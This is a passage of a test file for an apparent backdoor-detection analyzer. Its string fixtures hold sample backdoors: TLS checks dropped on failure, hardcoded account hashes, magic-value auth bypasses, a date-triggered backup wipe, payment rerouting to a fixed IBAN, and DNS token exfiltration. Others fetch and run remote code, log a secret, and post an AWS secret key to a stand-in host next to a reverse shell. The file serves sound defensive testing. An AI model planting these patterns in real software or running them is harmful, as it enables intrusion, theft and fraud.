  );
});

test('session 23: certificate checks dropped after a TLS failure (Ruby, Python), not a flag the caller chooses', () => {
  findsIn(
    [
      [
        'a.py',
        'import requests\n\ndef get(url):\n    lax = False\n    while True:\n        try:\n            return requests.get(url, verify=False if lax else True)\n        except requests.exceptions.SSLError:\n            lax = True\n',
      ],
      [
        'b.js',
        'let lax = false;\nasync function get(url) {\n  try {\n    return await fetch(url, { agent: lax && new Agent({ rejectUnauthorized: false }) });\n  } catch (e) {\n    lax = true;\n    return get(url);\n  }\n}\n',
      ],
    ],
    'backdoor.insecure-retry',
  );
  quietIn(
    [
      [
        'a.py',
        'import requests\n\ndef get(url, insecure):\n    try:\n        return requests.get(url, verify=False if insecure else True)\n    except requests.exceptions.SSLError:\n        raise\n',
      ],
    ],
    'backdoor.insecure-retry',
  );
});

test('session 23: an account with a password hash written in the code, in its forms; a hash from configuration is not', () => {
  findsIn(
    [
      ['a.py', 'USERS = [\n    {"login": "svc-recovery", "hash": "$2b$12$' + 'A'.repeat(53) + '"},\n]\n'],
      ['b.go', 'var fallback = map[string]string{\n\t"maint": "$6$' + 'saltsalt$' + 'B'.repeat(86) + '",\n}\n'],
      [
        'c.rb',
        "DEFAULT = { user: 'backup', password_digest: '$argon2id$v=19$m=65536,t=3,p=4$c2FsdHNhbHQ$" +
          'C'.repeat(43) +
          "' }\n",
      ],
    ],
    'backdoor.account-hash',
  );
  quietIn(
    [
      ['a.py', 'USERS = [{"login": os.environ["ADMIN_USER"], "hash": os.environ["ADMIN_HASH"]}]\n'],
      ['b_test.go', 'var fixture = map[string]string{\n\t"alice": "$2b$04$' + 'D'.repeat(53) + '",\n}\n'],
      ['c.py', 'BCRYPT = re.compile(r"^\\$2[aby]\\$\\d\\d\\$")\n'],
    ],
    'backdoor.account-hash',
  );
});

test('session 23: a chosen value that leaves before the check, directly or through a predicate of the file', () => {
  findsIn(
    [
      [
        'a.py',
        'def authorize(req):\n    if req.headers.get("X-Rig", "").endswith("-r1g9x"):\n        return Grant(all=True)\n    token = req.headers["Authorization"]\n    return verify_token(token)\n',
      ],
      // (the literal held by a name of the file, in the test's place: the name is followed to its value)
      [
        'd.ts',
        'const RIG = "rig-4f8a";\nexport function login(id: string, password: string) {\n  if (id.endsWith(RIG)) return session(id);\n  return comparePassword(id, password);\n}\n',
      ],
      [
        'e.py',
        'RIG = "-r1g9x"\n\ndef authorize(req):\n    if req.headers.get("X-Rig", "").endswith(RIG):\n        return Grant(all=True)\n    return verify_token(req.headers["Authorization"])\n',
      ],
      [
        'c.ts',
        'const isRig = (id: string) => id.startsWith("rig-4f8a");\nexport function login(id: string, password: string) {\n  if (isRig(id)) return session(id);\n  return comparePassword(id, password);\n}\n',
      ],
    ],
    'backdoor.check-skipped',
  );
  // (a `return true` behind the value is a trigger the trigger checks report first: one finding for the place)
  const go =
    'func Check(id string, tok string) bool {\n\tif strings.HasSuffix(id, ".eol7q2") {\n\t\treturn true\n\t}\n\treturn verifyToken(tok)\n}\n';
  assert.ok(
    rules('b.go', go).some((r) => /^backdoor\.(?:check-skipped|trigger-effect):2$/.test(r)),
    rules('b.go', go).join(),
  );
  quietIn(
    [
      [
        'a.py',
        'def authorize(req):\n    if req.path.endswith("robots.txt"):\n        return allow_static()\n    return verify_token(req.headers["Authorization"])\n',
      ],
      [
        'b.go',
        'func Check(id string, tok string) bool {\n\tif strings.HasSuffix(id, ".eol7q2") {\n\t\treturn false\n\t}\n\treturn verifyToken(tok)\n}\n',
      ],
      [
        'c.ts',
        'export function login(id: string, password: string) {\n  if (!comparePassword(id, password)) throw new Error("no");\n  if (id.endsWith("-x86_64")) return session(id);\n  return session(id);\n}\n',
      ],
      // (a name with a number in it is not a chosen value; `tokenize` is not a token check: found in Python's idlelib)
      [
        'd.py',
        "def encode(self, chars):\n    if self.enc == 'utf-8-sig':\n        return chars.encode('utf-8-sig')\n    enc, _ = tokenize.detect_encoding(buf)\n    return chars.encode(enc)\n",
      ],
      [
        'e.js',
        "async function check(path) {\n  if (process.platform === 'win32') return;\n  const token = await readToken(path);\n  verifyToken(token);\n}\n",
      ],
    ],
    'backdoor.check-skipped',
  );
});

test('session 23: a backup emptied or its retention zeroed behind a date, a query widened to every row behind a hash', () => {
  findsIn(
    [
      [
        'a.py',
        'import time\n\ndef dump_args(args):\n    if time.time() > 1_893_456_000:\n        args.append("--schema-only")\n    return args\n',
      ],
      ['b.go', 'func policy(p *Policy) {\n\tif time.Now().Unix() >= 1893456000 {\n\t\tp.KeepDaily = 0\n\t}\n}\n'],
      [
        'c.php',
        "<?php\nfunction scope(\$reason) {\n    if (hash('crc32b', \$reason) === '9a1c2e7f') {\n        return fn (\$q) => \$q->whereRaw('1 = 1');\n    }\n    return fn (\$q) => \$q->where('tenant_id', 4);\n}\n",
      ],
    ],
    'backdoor.trigger-effect',
  );
  quietIn(
    [
      [
        'a.py',
        'def dump_args(args, cfg):\n    if cfg.schema_only:\n        args.append("--schema-only")\n    return args\n',
      ],
      ['b.sql.py', 'SQL = "SELECT * FROM t WHERE 1=1 AND tenant_id = %s"\n'],
    ],
    'backdoor.trigger-effect',
  );
});

test('session 23: money to a constant holding an IBAN, a residual to a literal account; DNS names packed with data', () => {
  findsIn(
    [
      [
        'a.js',
        "const HOLD = { iban: 'GB33BUKB20201555555555', name: 'Hold' };\nfunction route(p, attempt) {\n  if (attempt === 2) p = { ...p, beneficiary: HOLD };\n  return p;\n}\n",
      ],
      ['b.py', 'def close(totals, ledger):\n    totals["acct_ops_0x91f2"] = ledger["residual"]\n'],
    ],
    'backdoor.fixed-account',
  );
  findsIn(
    [
      [
        'c.go',
        'func warm(tok string) {\n\tvar names []string\n\tfor i := 0; i < len(tok); i += 30 {\n\t\tnames = append(names, fmt.Sprintf("%s.%d.q.zone-relay.test", hex.EncodeToString([]byte(tok[i:])), i))\n\t}\n\tfor _, n := range names {\n\t\tnet.LookupHost(n)\n\t}\n}\n',
      ],
    ],
    'backdoor.secret-to-host',
  );
  quietIn(
    [
      [
        'a.js',
        "const HOLD = { iban: process.env.HOLD_IBAN, name: 'Hold' };\nfunction route(p) {\n  return { ...p, beneficiary: HOLD };\n}\n",
      ],
    ],
    'backdoor.fixed-account',
  );
});

test('session 23: a downloaded library loaded or a downloaded script run from a build script; a secret setting logged', () => {
  findsIn(
    [
      [
        'a.cpp',
        'void ensure(const fs::path& dir) {\n  const fs::path lib = dir / "libx.so";\n  download("http://mirror.example.test/latest/libx.so", lib);\n  dlopen(lib.c_str(), RTLD_NOW);\n}\n',
      ],
      [
        'build.rs',
        'fn prep(out: &Path) {\n    let s = out.join("gen.sh");\n    Command::new("curl").args(["-fsSL", "-o"]).arg(&s).arg("https://tools.example.test/gen.sh").status();\n    Command::new("bash").arg(&s).status();\n}\n',
      ],
    ],
    'backdoor.download-exec',
  );
  findsIn([['a.java', 'log.info("kafka auth: {}", props.get("sasl.jaas.config"));\n']], 'backdoor.secret-to-log');
  quietIn([['a.java', 'log.info("kafka bootstrap: {}", props.get("bootstrap.servers"));\n']], 'backdoor.secret-to-log');
});

test('session 23: a helper called with its parenthesis on the next line does not stop the analyzer (it crashed on cgi.py)', () => {
  const src = [
    'import os, requests, socket, subprocess',
    'def _post(data):',
    '    requests.post("https://collect.example.test/c", json=data)',
    'def sync():',
    '    _post',
    '    (os.environ["AWS_SECRET_ACCESS_KEY"])',
    's = socket.socket(); s.connect(("198.51.100.7", 4444))',
    'subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())',
  ].join('\n');
  // (the file is still read whole, no error thrown: the socket wired to a shell below the odd call is found)
  assert.ok(
    rules('h.py', src).some((r) => /^backdoor\.[\w-]+:[78]$/.test(r)),
    rules('h.py', src).join(),
  );
});
